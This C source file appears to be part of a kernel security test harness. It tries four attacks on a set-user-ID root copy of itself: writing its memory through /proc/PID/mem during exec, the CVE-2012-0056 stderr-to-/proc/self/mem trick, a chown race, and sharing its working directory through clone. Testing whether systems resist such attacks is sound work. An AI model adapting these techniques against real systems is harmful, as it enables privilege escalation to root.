/* Attacks on set-user-ID programs: the user wants to be root, or to change what a program of root does. */
#define _GNU_SOURCE
#include "hostile.h"

#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

/* The program is linked to a fixed address, so the user knows where the victim has this. */
static volatile unsigned long canary;

static char *const empty[] = { NULL };

static void run_victim(char *role)
{
	execve("./victim", (char *const[]){ "victim", role, NULL }, empty);
	_exit(1);
}

/* ---- the victim ---- */

static bool memory_changes(void)
{
	for (int i = 0; i < 10 && !canary; i++)
		sched_yield();
	return canary != 0;
}

static bool directory_changes(void)
{
	char before[300], now[300];

	if (!getcwd(before, sizeof(before)))
		return false;
	for (int i = 0; i < 10; i++) {
		sched_yield();
		if (getcwd(now, sizeof(now)) && strcmp(before, now))
			return true;
	}
	return false;
}

int victim(const char *role)
{
	bool changed;

	if (geteuid() || !getuid()) /* no program of root: the user may do what it wants */
		return 0;
	if (!strcmp(role, "whose"))
		return CHANGED;
	if (!strcmp(role, "stderr"))
		write(2, "rewritten", 8);
	changed = !strcmp(role, "directory") ? directory_changes() : memory_changes();
	return changed ? CHANGED : 0;
}

static void make_victim(void)
{
	copy_self("victim", 0, 04755);
}

/* ---- the memory of a program: descriptors and calls that passed the check before exec ---- */

static void write_memory_of(pid_t pid, int mem)
{
	uint64_t bad = 0x666;
	struct iovec ours = { &bad, sizeof(bad) }, theirs = { (void *)(uintptr_t)&canary, sizeof(canary) };

	pwrite(mem, &bad, sizeof(bad), (off_t)(uintptr_t)&canary);
	process_vm_writev(pid, &ours, 1, &theirs, 1, 0);
}

/* The descriptor is opened before exec, while the program is still the user's own. */
static void write_during_exec(void)
{
	char name[40];
	int mem, status;
	pid_t pid = fork_child();

	if (!pid) {
		sched_yield();
		run_victim("memory");
	}
	if (pid < 0)
		return;
	snprintf(name, sizeof(name), "/proc/%d/mem", pid);
	mem = open(name, O_RDWR);
	while (!waitpid(pid, &status, WNOHANG))
		write_memory_of(pid, mem);
	close(mem);
	if (WIFEXITED(status) && WEXITSTATUS(status) == CHANGED)
		won(0);
}

/* The program writes to its own memory, because its standard error is that (CVE-2012-0056). */
static void write_by_stderr(void)
{
	pid_t pid = fork_child();

	if (!pid) {
		int mem = open("/proc/self/mem", O_RDWR);

		lseek(mem, (off_t)(uintptr_t)&canary, SEEK_SET);
		dup2(mem, 2);
		run_victim("stderr");
	}
	if (status_of(pid) == CHANGED)
		won(0);
}

/* ---- the owner of a program changes while it is executed ---- */

static void make_own_program(void)
{
	copy_self("victim", HOSTILE, 04755);
}

/* At no time is the file a set-user-ID program of root: chown(2) takes the bit away. */
static void take_program_over(void)
{
	for (int i = 0; i < 20; i++) {
		chown("victim", 0, 0);
		chown("victim", HOSTILE, HOSTILE);
		chmod("victim", 04755);
	}
}

static void execute_own_program(void)
{
	pid_t pid = fork_child();

	if (!pid)
		run_victim("whose");
	if (status_of(pid) == CHANGED)
		won(0);
}

/* ---- the current directory is shared with a program ---- */

__attribute__((noreturn)) static int change_directory_again_and_again(void *unused)
{
	(void)unused;
	for (;;) {
		chdir("/");
		chdir("/tmp");
	}
}

static void share_directory(void)
{
	static char stack[1 << 14] __attribute__((aligned(16)));
	pid_t pid = fork_child();

	if (!pid) {
		pid_t helper;
		int victim = open("victim", O_RDONLY | O_CLOEXEC);

		helper = clone(change_directory_again_and_again, stack + sizeof(stack), CLONE_FS | SIGCHLD, NULL);
		/* By descriptor, because the directory is somewhere. */
		if (helper > 0)
			syscall(SYS_execveat, victim, "", (char *const[]){ "victim", "directory", NULL }, empty, AT_EMPTY_PATH);
		_exit(1);
	}
	if (status_of(pid) == CHANGED)
		won(0);
}

const struct attack program_attacks[] = {
	{ "exec_memory", "the memory of a set-user-ID program was written", make_victim, NULL, write_during_exec, false },
	{ "exec_stderr", "a set-user-ID program has overwritten itself", make_victim, NULL, write_by_stderr, false },
	{ "exec_chown", "a program of the user ran as root", make_own_program, take_program_over, execute_own_program, false },
	{ "exec_shared_fs", "the directory of a set-user-ID program was changed", make_victim, NULL, share_directory, false },
	{ 0 },
};
